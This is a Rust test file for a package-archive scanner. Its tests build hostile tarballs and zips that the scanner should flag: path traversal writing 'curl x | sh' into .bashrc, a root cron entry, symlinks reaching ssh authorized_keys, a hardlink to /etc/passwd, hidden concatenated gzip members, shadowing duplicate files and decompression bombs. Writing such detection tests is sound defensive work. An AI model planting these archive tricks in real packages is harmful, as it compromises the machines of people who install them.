//! Unit tests of the archive reader on archives built byte by byte.
#![allow(clippy::unwrap_used)]

use std::io::Write;

use super::*;

/// One raw tar entry: a ustar header with `name`/`link` written as bytes (so `..` and
/// absolute paths get through), then the padded data.
pub(crate) fn entry(name: &str, typeflag: u8, data: &[u8], link: &str) -> Vec<u8> {
    let mut h = ::tar::Header::new_ustar();
    h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    h.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.as_old_mut().linkflag[0] = typeflag;
    h.set_cksum();
    let mut out = h.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len() + (512 - data.len() % 512) % 512, 0);
    out
}

pub(crate) fn end() -> Vec<u8> {
    vec![0u8; 1024]
}

pub(crate) fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn files(a: &Archive) -> Vec<String> {
    a.installed_files().map(|e| e.path.clone()).collect()
}

fn codes(a: &Archive) -> Vec<&'static str> {
    a.issues.iter().map(|i| i.kind.code()).collect()
}

#[test]
fn two_gzip_members_are_both_read() {
    // The first member is a complete tar; the second holds another (the file after the
    // first member's end-of-archive marker is what npm still installs).
    let mut first = entry("package/package.json", b'0', b"{}", "");
    first.extend(end());
    let mut second = entry("package/steal.js", b'0', b"process.env", "");
    second.extend(end());
    let mut bytes = gz(&first);
    bytes.extend(gz(&second));
    let a = read(&bytes, &Limits::default(), Root::StripComponents(1)).unwrap();
    assert_eq!(files(&a), ["package.json", "steal.js"]);
    assert!(a.complete);
    assert!(codes(&a).contains(&"concatenated-gzip"), "{:?}", a.issues);
    // The second file comes after an end-of-archive marker: readers disagree.
    assert!(codes(&a).contains(&"malformed"));
}

#[test]
fn single_zero_block_and_garbage_do_not_end_the_walk() {
    let mut t = entry("package/a.js", b'0', b"a", "");
    t.extend([0u8; 512]);
    t.extend(entry("package/b.js", b'0', b"b", ""));
    t.extend([0x41u8; 512]);
    t.extend(entry("package/c.js", b'0', b"c", ""));
    t.extend(end());
    let a = read(&gz(&t), &Limits::default(), Root::StripComponents(1)).unwrap();
    assert_eq!(files(&a), ["a.js", "b.js", "c.js"]);
    assert!(a.entries[1].after_anomaly && a.entries[2].after_anomaly);
    assert!(!a.entries[0].after_anomaly);
}

#[test]
fn plain_tar_and_trailing_bytes() {
    let mut t = entry("x/setup.py", b'0', b"print()", "");
    t.extend(end());
    let a = read(&t, &Limits::default(), Root::CommonTopFolder).unwrap();
    assert_eq!(a.format, Format::Tar);
    assert_eq!(files(&a), ["setup.py"]);
    let mut g = gz(&t);
    g.extend(b"garbage");
    let a = read(&g, &Limits::default(), Root::CommonTopFolder).unwrap();
    assert_eq!(files(&a), ["setup.py"]);
    assert!(a.issues.iter().any(|i| i.detail.contains("after the end")));
}

#[test]
fn path_tricks_are_issues() {
    let mut t = Vec::new();
    t.extend(entry("package/index.js", b'0', b"ok", ""));
    t.extend(entry("package/../../.bashrc", b'0', b"curl x | sh", ""));
    t.extend(entry("/etc/cron.d/x", b'0', b"* * * * * root sh", ""));
    t.extend(entry("package/lnk", b'2', b"", "../../../home"));
    t.extend(entry(
        "package/lnk/.ssh/authorized_keys",
        b'0',
        b"ssh-rsa",
        "",
    ));
    t.extend(entry("package/hard", b'1', b"", "../../etc/passwd"));
    t.extend(entry("package/dev", b'3', b"", ""));
    t.extend(entry("package/fifo", b'6', b"", ""));
    t.extend(entry("package/inner", b'2', b"", "lib/x.js"));
    t.extend(end());
    let a = read(&gz(&t), &Limits::default(), Root::StripComponents(1)).unwrap();
    let c = codes(&a);
    assert_eq!(
        c.iter().filter(|c| **c == "path-traversal").count(),
        2,
        "{c:?}"
    );
    assert!(c.contains(&"absolute-path"));
    assert_eq!(c.iter().filter(|c| **c == "link-outside").count(), 2);
    assert_eq!(c.iter().filter(|c| **c == "device-file").count(), 2);
    // The absolute path is stripped the way node-tar does (then strip 1): it lands inside.
    assert_eq!(files(&a), ["index.js", "cron.d/x"]);
    // An inside symlink is not an issue.
    assert!(!a.issues.iter().any(|i| i.path == "package/inner"));
}

#[test]
fn duplicates_shadow_and_are_reported_when_different() {
    let mut t = Vec::new();
    t.extend(entry("package/index.js", b'0', b"benign()", ""));
    t.extend(entry("package/same.js", b'0', b"x", ""));
    t.extend(entry("package/same.js", b'0', b"x", ""));
    t.extend(entry("package/index.js", b'0', b"steal()", ""));
    t.extend(end());
    let a = read(&gz(&t), &Limits::default(), Root::StripComponents(1)).unwrap();
    let installed: Vec<_> = a.installed_files().collect();
    assert_eq!(installed.len(), 2);
    let index = installed.iter().find(|e| e.path == "index.js").unwrap();
    assert_eq!(index.bytes.as_deref(), Some(&b"steal()"[..]));
    assert_eq!(codes(&a), ["duplicate-entry"]);
}

#[test]
fn bomb_stops_reading_and_says_so() {
    let big = vec![0u8; 8 << 20];
    let mut t = entry("package/zeros.bin", b'0', &big, "");
    t.extend(entry("package/after.js", b'0', b"x", ""));
    t.extend(end());
    let limits = Limits {
        max_ratio: 100,
        ..Limits::default()
    };
    let a = read(&gz(&t), &limits, Root::StripComponents(1)).unwrap();
    assert!(!a.complete);
    assert!(a.issues.iter().any(|i| i.kind
        == IssueKind::LimitExceeded {
            limit: Limit::Ratio
        }));
    assert!(!files(&a).contains(&"after.js".to_string()));
    // Total byte limit.
    let limits = Limits {
        max_total_bytes: 1 << 20,
        max_ratio: u64::MAX,
        ..Limits::default()
    };
    let a = read(&gz(&t), &limits, Root::StripComponents(1)).unwrap();
    assert!(!a.complete);
    assert!(a.issues.iter().any(|i| i.kind
        == IssueKind::LimitExceeded {
            limit: Limit::TotalBytes
        }));
}

#[test]
fn entry_limit_and_truncation() {
    let mut t = Vec::new();
    for i in 0..5 {
        t.extend(entry(&format!("package/f{i}.js"), b'0', b"x", ""));
    }
    t.extend(end());
    let limits = Limits {
        max_entries: 3,
        ..Limits::default()
    };
    let a = read(&gz(&t), &limits, Root::StripComponents(1)).unwrap();
    assert_eq!(files(&a).len(), 3);
    assert!(!a.complete);
    let cut = &gz(&t)[..60];
    let a = read(cut, &Limits::default(), Root::StripComponents(1)).unwrap();
    assert!(!a.complete);
    assert!(codes(&a).contains(&"truncated"));
}

#[test]
fn common_top_folder_only_when_shared() {
    let mut t = entry("a-1.0/setup.py", b'0', b"", "");
    t.extend(entry("a-1.0/a/__init__.py", b'0', b"", ""));
    t.extend(end());
    let a = read(&t, &Limits::default(), Root::CommonTopFolder).unwrap();
    assert_eq!(files(&a), ["setup.py", "a/__init__.py"]);
    let mut t2 = t[..t.len() - 1024].to_vec();
    t2.extend(entry("other/x.py", b'0', b"", ""));
    t2.extend(end());
    let a = read(&t2, &Limits::default(), Root::CommonTopFolder).unwrap();
    assert_eq!(files(&a)[0], "a-1.0/setup.py");
}

#[test]
fn zip_entries_links_and_limits() {
    use ::zip::write::SimpleFileOptions;
    let mut w = ::zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = SimpleFileOptions::default();
    w.start_file("pkg/__init__.py", o).unwrap();
    w.write_all(b"import os").unwrap();
    w.start_file("../evil.pth", o).unwrap();
    w.write_all(b"import x").unwrap();
    w.add_symlink("pkg/link", "/etc/passwd", o).unwrap();
    w.start_file(
        "pkg/zeros.bin",
        o.compression_method(::zip::CompressionMethod::Deflated),
    )
    .unwrap();
    w.write_all(&vec![0u8; 4 << 20]).unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let limits = Limits {
        max_ratio: 100,
        ..Limits::default()
    };
    let a = read(&bytes, &limits, Root::AsIs).unwrap();
    let c = codes(&a);
    assert!(
        c.contains(&"path-traversal") && c.contains(&"link-outside"),
        "{c:?}"
    );
    assert!(c.contains(&"limit-exceeded"), "{c:?}");
    assert!(!a.complete);
    assert_eq!(files(&a), ["pkg/__init__.py"]);
}

#[test]
fn visit_hands_over_contents_and_keeps_none() {
    let mut t = entry("package/a.json", b'0', b"{}", "");
    t.extend(entry("package/b.json", b'0', b"[]", ""));
    t.extend(end());
    let mut seen = Vec::new();
    let a = visit(
        &gz(&t),
        &Limits::default(),
        Root::StripComponents(1),
        &mut |name, bytes| seen.push((name.to_string(), bytes.to_vec())),
    )
    .unwrap();
    assert_eq!(
        seen,
        [
            ("package/a.json".to_string(), b"{}".to_vec()),
            ("package/b.json".to_string(), b"[]".to_vec())
        ]
    );
    assert!(a.entries.iter().all(|e| e.bytes.is_none()));
    assert_eq!(files(&a), ["a.json", "b.json"]);
}
